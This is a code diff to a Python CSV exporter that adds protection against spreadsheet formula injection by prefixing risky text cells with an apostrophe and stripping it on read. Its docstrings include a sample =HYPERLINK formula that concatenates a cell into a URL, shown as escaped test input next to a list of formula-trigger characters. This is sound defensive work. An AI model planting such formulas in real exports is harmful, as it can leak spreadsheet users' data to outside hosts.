@@ -1,5 +1,19 @@
 """CSV: ``<table>.csv`` and ``meta.csv``, UTF-8 with a header row, ready for a spreadsheet.
 
+No cell is a formula. A spreadsheet reads a cell that begins with ``=``,
+``+``, ``-``, ``@``, a tab or a carriage return as a formula (OWASP, "CSV
+Injection"), and a record's title is anyone's text. So a *text* cell (a
+``string`` column, or a list of strings) that begins with one of these, or
+with ``'``, is written with one ``'`` in front: ``=HYPERLINK(…)`` is
+written ``'=HYPERLINK(…)``, which every spreadsheet shows as text, and
+``'quoted`` becomes ``''quoted``. Numbers (``-1.5``), dates, booleans and
+lists of numbers are written as they are; they cannot hold a formula.
+Reading a text cell back removes that one ``'`` (:func:`unprotect`, used by
+:func:`read` and :func:`pakru.export.read_csv`), so every value comes back
+exactly. The JSON, JSON Lines, SQLite and Parquet exports keep the value
+unchanged: they are typed, and no spreadsheet evaluates a JSON string or a
+database text value.
+
 Every known value is quoted, so an unknown value is the only unquoted
 empty cell: ``,,`` is unknown (null), ``,"",`` an empty list or an empty
 string. Lists are joined with ``;``, booleans ``true``/``false``, dates
@@ -20,11 +34,47 @@ from pathlib import Path
 from pakru.atomic import write_text
 from pakru.export.tables import Column, Row, Table, Value, from_text, to_text
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""
+
+ESCAPE = "'"
+"""Put before a text cell that begins with a formula character or with itself."""
+
+
+def is_text(column: Column) -> bool:
+    """Whether the column's cells are text that :func:`protect` applies to."""
+    return column.type == "string" or (column.type == "list" and column.item == "string")
+
+
+def protect(text: str) -> str:
+    """A text cell as written: one ``'`` in front when it begins with a formula character
+    or with ``'``, so no spreadsheet reads it as a formula and :func:`unprotect` undoes it.
+
+    >>> protect('=HYPERLINK("http://x"&A1,"click")')
+    '\'=HYPERLINK("http://x"&A1,"click")'
+    >>> protect("'quoted"), protect("plain"), unprotect(protect("-1.5"))
+    ("''quoted", 'plain', '-1.5')
+    """
+    return ESCAPE + text if text.startswith((*FORMULA_STARTS, ESCAPE)) else text
+
+
+def unprotect(text: str) -> str:
+    """The text a cell written by :func:`protect` stands for."""
+    return text.removeprefix(ESCAPE)
+
+
+def cell_value(column: Column, text: str) -> Value:
+    """The value of a known (quoted or not empty) cell of ``column``, ``protect`` undone."""
+    return from_text(column, unprotect(text) if is_text(column) else text)
+
 
 def _cell(column: Column, value: Value) -> str:
     if value is None:
         return ""
-    return '"' + to_text(column, value).replace('"', '""') + '"'
+    text = to_text(column, value)
+    if is_text(column):
+        text = protect(text)
+    return '"' + text.replace('"', '""') + '"'
 
 
 def write_table(table: Table, path: Path) -> Path:
@@ -73,7 +123,7 @@ def write_meta(meta: Mapping[str, str], path: Path) -> Path:
     f = io.StringIO(newline="")
     writer = csv.writer(f)
     writer.writerow(("key", "value"))
-    writer.writerows(meta.items())
+    writer.writerows((protect(k), protect(v)) for k, v in meta.items())
     return write_text(path, f.getvalue())
 
 
@@ -89,7 +139,7 @@ def write(
 
 def _row(table: Table, cells: list[str | None]) -> Row:
     pairs = zip(table.columns, cells, strict=True)
-    return {c.name: None if v is None else from_text(c, v) for c, v in pairs}
+    return {c.name: None if v is None else cell_value(c, v) for c, v in pairs}
 
 
 def read(out: Path, like: Mapping[str, Table]) -> tuple[dict[str, list[Row]], dict[str, str]]:
@@ -99,13 +149,7 @@ def read(out: Path, like: Mapping[str, Table]) -> tuple[dict[str, list[Row]], di
         header, *rows = parse((out / f"{name}.csv").read_bytes().decode("utf-8"))
         if tuple(header) != table.column_names:
             raise ValueError(f"{name}.csv: unexpected header {header}")
-        tables[name] = [
-            {
-                c.name: None if v is None else from_text(c, v)
-                for c, v in zip(table.columns, r, strict=True)
-            }
-            for r in rows
-        ]
+        tables[name] = [_row(table, r) for r in rows]
     with (out / "meta.csv").open(encoding="utf-8", newline="") as f:
-        meta = {item["key"]: item["value"] for item in csv.DictReader(f)}
+        meta = {unprotect(item["key"]): unprotect(item["value"]) for item in csv.DictReader(f)}
     return tables, meta
